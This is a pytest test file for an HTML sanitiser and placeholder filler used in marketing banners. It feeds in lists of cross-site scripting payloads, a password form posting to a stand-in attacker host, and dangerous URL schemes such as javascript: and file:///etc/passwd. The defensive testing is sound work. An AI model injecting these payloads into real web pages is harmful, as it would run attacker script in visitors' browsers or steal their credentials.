"""Hostile creatives: what a marketer (or whoever has their password) writes never runs in a visitor's page."""

import pytest

from offers.audience.visitor import View
from offers.campaign.creative import sanitise
from offers.campaign.placeholders import filled, placeholder_problem
from profiles.model import Affinity, CartLine, Profile
from tests.support.sites import UTC_SITE

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&#58;alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<object data=x></object><embed src=x>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script-->",
    "<template><script>alert(1)</script></template>",
    "<b onclick=alert(1) id=x>b</b>",
    "<img src=\"x\" srcset=\"javascript:alert(1)\">",
]  # fmt: skip


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_that_runs_survives(source: str):
    clean = sanitise(source).lower()
    for part in ("<script", "onerror", "onload", "onclick", "javascript:", "<iframe", "<form", "<input", "style",
                 "<svg", "<math", "<base", "<meta", "<object", "<embed", "data:", "<template", " id="):  # fmt: skip
        assert part not in clean


def test_what_a_banner_needs_survives():
    source = (
        '<div class="banner"><h2>Neu &amp; gut</h2><p>단골 <strong>-10 %</strong></p>'
        '<img src="https://shop.example/a.png" alt="A" width="80"><a href="/sale" target="_blank">Go</a></div>'
    )
    clean = sanitise(source)
    assert clean == source.replace('target="_blank">', 'target="_blank" rel="noopener noreferrer">')


NOW = 1_795_000_000_000
SHOPPER = View(
    Profile(
        id="u:7",
        traits={
            "first_name": "Ann",
            "nickname": "<img src=x onerror=alert(1)>",
            "title": "javascript:alert(1)",
            "points": 3.0,
            "plan": {},
            "email": "ann@example.com",
        },
        affinities={"shoes": Affinity(2.0, NOW), "bags": Affinity(1.0, NOW)},
        cart={"p1": CartLine(2, 9.5)},
    ),
    NOW,
    UTC_SITE,
)


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("Hi {{ trait.first_name | friend }}!", "Hi Ann!"),
        ("Hi {{trait.name|friend}}!", "Hi friend!"),
        ("Hi {{ trait.name }}!", "Hi !"),
        ("{{ trait.plan | x }} {{ trait.points }}", "x 3"),
        ("{{ top_category | things }}: {{ cart_items }} for {{ cart_value }}", "shoes: 2 for 19.00"),
        ("{{ trait.email | hidden }}", "hidden"),
        ("{{ trait.nickname }}", "&lt;img src=x onerror=alert(1)&gt;"),
        ('<a href="{{ trait.title }}">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<b title="{{ trait.nickname }}">x</b>', '<b title="&lt;img src=x onerror=alert(1)&gt;">x</b>'),
        ('<a href="/c/{{ top_category }}">x</a>', '<a href="/c/shoes" rel="noopener noreferrer">x</a>'),
    ],
)
def test_placeholders_in_html_are_filled_and_escaped(source: str, shown: str):
    assert filled("html", sanitise(source), SHOPPER, traits=True) == shown


def test_placeholders_in_json_and_pictures():
    content = {
        "title": "For {{ trait.first_name | you }}",
        "link": "{{ trait.title }}",
        "n": 1,
        "l": ["{{ stage }}"],
    }
    assert filled("json", content, SHOPPER, traits=True) == {
        "title": "For Ann",
        "link": "",
        "n": 1,
        "l": ["prospect"],
    }
    assert filled("json", content, SHOPPER, traits=False)["title"] == "For you"


def test_in_an_address_a_value_is_a_part_of_it():
    likes = Profile(id="v:a", affinities={"Home & Garden #1?": Affinity(1.0, NOW)})
    view, part = View(likes, NOW, UTC_SITE), "Home%20%26%20Garden%20%231%3F"
    html = sanitise('<a href="/shop?cat={{ top_category }}&x=1">{{ top_category }}</a>')
    assert filled("html", html, view, traits=False) == (
        f'<a href="/shop?cat={part}&amp;x=1" rel="noopener noreferrer">Home &amp; Garden #1?</a>'
    )
    content = {"link": "https://x.example/{{ top_category }}", "title": "{{ top_category }}"}
    told = filled("json", content, view, traits=False)
    assert told == {"link": f"https://x.example/{part}", "title": "Home & Garden #1?"}
    picture = {"src": "/{{ top_category | all }}.jpg", "alt": "{{ top_category }}"}
    assert filled("image", picture, view, traits=False)["src"] == f"/{part}.jpg"


def test_of_nobody_in_particular_nothing_is_claimed():
    source = "{{ stage | friend }}; {{ orders | many }}; {{ visits }}; {{ trait.name | you }}"
    assert filled("html", sanitise(source), None, traits=True) == "friend; many; ; you"
    assert filled("json", {"n": source}, None, traits=False) == {"n": "friend; many; ; you"}


def test_only_known_placeholders_are_accepted():
    assert placeholder_problem({"a": ["{{ trait.first_name | friend }}"]}) is None
    assert placeholder_problem("{{ trait.firstName }} {{ trait.Member-Since }}") is None
    assert "trait.email is not for pages" in (placeholder_problem("{{ trait.email }}") or "")
    assert placeholder_problem("no braces { here }") is None
    assert "no placeholder 'password'" in (placeholder_problem("{{ password }}") or "")
    assert "a placeholder is" in (placeholder_problem("{{ 1 + 1 }}") or "")
    assert "a placeholder is" in (placeholder_problem("{{ stage") or "")


SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:x", "java\tscript:x", "\x01javascript:x", "vbscript:x"),
    *("data:image/svg+xml,x", "data:text/html,x", "blob:x", "file:///etc/passwd", "filesystem:x", "intent:x"),
    *("ws://x", "view-source:x"),
)
CARRIERS = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<source srcset="{}">',
    '<picture><source srcset="{} 2x"></picture>',
    '<source srcset="/a.png 1x, {} 2x">',
    '<source srcset="/a.png 1x,{}">',
    '<source srcset="/a.png,{} 2x">',
    '<img srcset="{}">',
    '<source src="{}">',
    '<a ping="{}">x</a>',
    '<a xlink:href="{}">x</a>',
    '<img longdesc="{}">',
    '<img lowsrc="{}">',
    '<q cite="{}">x</q>',
    '<blockquote cite="{}">x</blockquote>',
    '<button formaction="{}">x</button>',
    '<link imagesrcset="{}">',
    '<video poster="{}"></video>',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<div style="background:url({})">x</div>',
    '<svg><a xlink:href="{}"><text>x</text></a><image href="{}"/></svg>',
)


@pytest.mark.parametrize("carrier", CARRIERS)
def test_no_attribute_carries_an_address_of_another_scheme(carrier: str):
    for scheme in SCHEMES:
        clean = sanitise(carrier.replace("{}", scheme)).lower()
        assert scheme.lower().lstrip("\x01").partition(":")[0].replace("\t", "") + ":" not in clean.replace(
            "\t", ""
        )


def test_pictures_of_several_sizes_survive():
    source = '<source srcset="https://shop.example/a.png?x=1,2 1x, /b:c.png 2x, c.png 3x" media="(min-width: 10px)">'
    assert sanitise(source) == source
